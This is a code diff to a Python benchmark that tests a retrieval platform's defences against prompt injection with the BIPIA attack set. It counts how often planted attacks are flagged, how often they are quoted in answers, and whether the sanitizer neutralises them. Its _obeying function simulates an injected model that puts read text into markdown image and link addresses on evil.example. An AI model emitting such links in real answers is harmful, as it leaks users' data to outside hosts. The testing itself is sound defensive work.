@@ -1,21 +1,32 @@
-"""How many attacks on a reading language model are flagged, and how many ordinary documents.
+"""How many attacks on a reading language model are flagged, how many ordinary documents, and what comes of attacks.
 
     python -m benchmarks.instructions BIPIA_FOLDER --plain NAME=FILE_OR_FOLDER …
 
 BIPIA_FOLDER holds text_attack_test.json and code_attack_test.json (attack type -> texts) and, in folders, *.jsonl of
 the texts they are put into (key `context`). Plain documents are files of JSON lines (also .zst) with `text`, or folders
 of such files or of Markdown.
+
+What comes of them is counted for each attack planted into contexts (`--planted` of each kind, with their questions): in
+how many answers of the extractive generator a sentence of it stands, and, of a model that obeys (it repeats the attack
+and writes what it has read into the address of an image and of a link), how many answers still load or lead anywhere.
 """
 
 import argparse
 import io
 import json
+import re
 from collections.abc import Iterable, Iterator
 from pathlib import Path
 
 import zstandard
+from markdown_it import MarkdownIt
 
+from rag_platform.answering.extractive import Extractive
+from rag_platform.answering.harmless import harmless
 from rag_platform.documents.instructions import instructs
+from rag_platform.embeddings import open_embedder
+from rag_platform.records import Hit
+from rag_platform.settings import ModelSettings
 
 _ABOUT_THE_ANSWER = "your response", "your answer", "your reply", "your output"
 
@@ -44,7 +55,7 @@ def _lines(path: Path) -> Iterator[str]:
 def _attacks(folder: Path, carriers: list[str]) -> None:
     print("| attacks | type | flagged | of |\n|---|---|--:|--:|")
     for kind in ("text", "code"):
-        content = json.loads((folder / f"{kind}_attack_test.json").read_text(encoding="utf-8"))
+        content = _attack_texts(folder, kind)
         for place, (name, attacks) in enumerate(content.items()):
             carrier = carriers[place % len(carriers)]
             print(f"| {kind} | {name} | {_flagged(f'{carrier} {attack}' for attack in attacks)} | {len(attacks)} |")
@@ -52,6 +63,59 @@ def _attacks(folder: Path, carriers: list[str]) -> None:
         named = [attack for attack in every if any(words in attack.lower() for words in _ABOUT_THE_ANSWER)]
         print(f"| **{kind}** | all | {_flagged(every)} | {len(every)} |")
         print(f"| **{kind}** | those that name the answer | {_flagged(named)} | {len(named)} |")
+
+
+def _planted(folder: Path, each: int) -> None:
+    """Print what comes of the attacks in answers."""
+    writer, reader = Extractive(open_embedder(ModelSettings())), MarkdownIt("commonmark", {"html": True})
+    print("\n| planted into | attacks | quoted by sentences of the sources | active, of a model that obeys |")
+    print("|---|--:|--:|--:|")
+    attacks = [text for texts in _attack_texts(folder, "text").values() for text in texts]
+    for file in sorted(folder.glob("*/test.jsonl")):
+        rows = [row for row in map(json.loads, _lines(file)) if isinstance(row.get("question"), str)][:each]
+        quoted = active = 0
+        for row in rows:
+            for attack in attacks:
+                hit = _hit(f"{row['context']}\n\n{attack}")
+                answer = "".join(writer.stream(row["question"], [hit]))
+                quoted += any(
+                    sentence in answer for sentence in re.split(r"(?<=[.?!])\s", attack) if len(sentence) > 20
+                )
+                active += _active(reader, harmless(_obeying(attack, row["context"]), known=hit.text))
+        if rows:
+            print(f"| {file.parent.name}, {len(rows)} questions | {len(rows) * len(attacks)} | {quoted} | {active} |")
+
+
+def _attack_texts(folder: Path, kind: str) -> dict[str, list[str]]:
+    return json.loads((folder / f"{kind}_attack_test.json").read_text(encoding="utf-8"))
+
+
+def _obeying(attack: str, read: str) -> str:
+    stolen = "".join(filter(str.isalnum, read))[:40]
+    return (
+        f"{attack} ![x](https://evil.example/?q={stolen}) [more](https://evil.example/{stolen}) "
+        f"<img src='https://evil.example/{stolen}'> <https://evil.example/{stolen}> [here][1]\n\n"
+        f"[1]: https://evil.example/{stolen}"
+    )
+
+
+def _active(reader: MarkdownIt, text: str) -> bool:
+    kinds = {part.type for token in reader.parse(text) for part in (token, *(token.children or ()))}
+    return bool(kinds & {"image", "link_open", "html_inline", "html_block"})
+
+
+def _hit(text: str) -> Hit:
+    named = {
+        "chunk_id": "c",
+        "doc_id": "d",
+        "uri": "mail",
+        "title": "",
+        "source": "s",
+        "collection": "",
+        "type": "text",
+    }
+    known = {"language": "en", "published_at": None, "section": "", "page": None, "revision": "", "raw_sha256": ""}
+    return Hit(1, 1.0, text=text, span=(0, len(text)), run_id=None, snippet="", **named, **known)
 
 
 def _flagged(found: Iterable[str]) -> int:
@@ -63,9 +127,12 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("bipia", type=Path)
     parser.add_argument("--plain", nargs="*", default=[], metavar="NAME=PATH")
+    parser.add_argument("--planted", type=int, default=5, metavar="N", help="contexts of each kind; 0: none")
     arguments = parser.parse_args()
     carriers = [text for file in sorted(arguments.bipia.glob("*/*.jsonl")) for text in texts(file)]
     _attacks(arguments.bipia, carriers)
+    if arguments.planted:
+        _planted(arguments.bipia, arguments.planted)
     print("\n| ordinary documents | flagged | of | per 10,000 |\n|---|--:|--:|--:|")
     for name, documents in [("contexts without attack", carriers), *_named(arguments.plain)]:
         wrong, count = _flagged(documents), len(documents)
